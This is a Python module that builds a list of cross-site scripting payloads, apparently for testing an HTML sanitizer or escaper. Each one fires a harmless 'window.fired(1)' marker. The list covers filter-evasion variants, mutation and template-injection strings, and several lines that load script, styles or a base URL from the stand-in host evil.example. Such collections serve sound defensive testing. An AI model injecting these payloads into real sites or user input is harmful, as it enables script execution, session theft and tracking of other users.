"""Texts that would run as a script in a page that took them for markup, an attribute, an address or a script."""

CALL = "window.fired(1)"

_TEMPLATES = """
<script>{}</script>
<SCRIPT>{}</SCRIPT>
<script src="data:text/javascript,{}"></script>
<script src="https://evil.example/x.js"></script>
<script type="module">{}</script>
<script>{}//
</script><script>{}</script>
</style><script>{}</script>
</textarea><script>{}</script>
</title><script>{}</script>
--><script>{}</script>
]]><script>{}</script>
<scr<script>ipt>{}</scr</script>ipt>
<script\x0c>{}</script>
<script/x>{}</script>
<img src=x onerror={}>
<img src=x onerror="{}">
<img src="x" onerror='{}'>
<img/src=x/onerror={}>
<img src=x:x onerror=eval('{}')>
<img srcset=x onerror={}>
<img src="javascript:{}">
<image src=x onerror={}>
"><img src=x onerror={}>
'><img src=x onerror={}>
`><img src=x onerror={}>
<svg onload={}>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><script href="data:text/javascript,{}"/></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributename=x>
<svg><a xlink:href="javascript:{}"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><image href='1' onerror='{}'/></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{}</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>
<math href="javascript:{}">x</math>
<body onload={}>
<body onpageshow={}>
<body onhashchange={}><a href=#x>
<iframe src="javascript:{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe onload={}></iframe>
<frameset onload={}>
<object data="javascript:{}"></object>
<object data="data:text/html,<script>parent.{}</script>"></object>
<embed src="javascript:{}">
<embed src="data:text/html,<script>parent.{}</script>">
<video src=x onerror={}></video>
<video><source onerror={}></video>
<video poster="javascript:{}"></video>
<audio src=x onerror={}></audio>
<input autofocus onfocus={}>
<select autofocus onfocus={}>
<textarea autofocus onfocus={}>
<button autofocus onfocus={}>x
<keygen autofocus onfocus={}>
<details open ontoggle={}>
<details open><summary onclick={}>x</summary></details>
<marquee onstart={}>x</marquee>
<div onpointerover={}>x</div>
<div onmouseenter={} style="position:fixed;inset:0">x</div>
<div style="animation:x 1s" onanimationstart={}>
<div style="background:url(javascript:{})">
<style>@import 'https://evil.example/x.css';</style>
<style>*{{background:url(https://evil.example/x)}}</style>
<style onload={}></style>
<link rel=stylesheet href="https://evil.example/x.css" onerror={}>
<link rel=preload as=script href="https://evil.example/x.js">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:{}">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="javascript:{}"><input type=submit autofocus></form>
<form><button formaction="javascript:{}">x</button></form>
<isindex action="javascript:{}" type=submit value=x>
<a href="javascript:{}">x</a>
<a href="jAvAsCrIpT:{}">x</a>
<a href="java\tscript:{}">x</a>
<a href="\x01javascript:{}">x</a>
<a href="data:text/html,<script>{}</script>">x</a>
<a href="vbscript:{}">x</a>
<a ping="https://evil.example/" href=#>x</a>
javascript:{}
data:text/html,<script>{}</script>
" onmouseover="{}" x="
' onfocus='{}' autofocus='
" autofocus onfocus={} x="
'-{}-'
"-{}-"
`-{}-`
${{{}}}
{{{{constructor.constructor('{}')()}}}}
{{{{{}}}}}
<%= {} %>
#{{{}}}
\\u003cscript\\u003e{}\\u003c/script\\u003e
&lt;script&gt;{}&lt;/script&gt;
&#60;script&#62;{}&#60;/script&#62;
%3Cscript%3E{}%3C/script%3E
\u2028</script><script>{}</script>
\ufeff<script>{}</script>
<\x00script>{}</script>
\uff1cscript\uff1e{}\uff1c/script\uff1e
<noscript><p title="</noscript><img src=x onerror={}>">
<template><script>{}</script></template>
<portal src="javascript:{}"></portal>
<x onclick={} tabindex=1 id=x autofocus onfocus={}>
{{"__proto__": {{"innerHTML": "<img src=x onerror={}>"}}}}
"""

PAYLOADS = [
    line.replace("{}", CALL).replace("{{", "{").replace("}}", "}") for line in _TEMPLATES.strip("\n").split("\n")
]
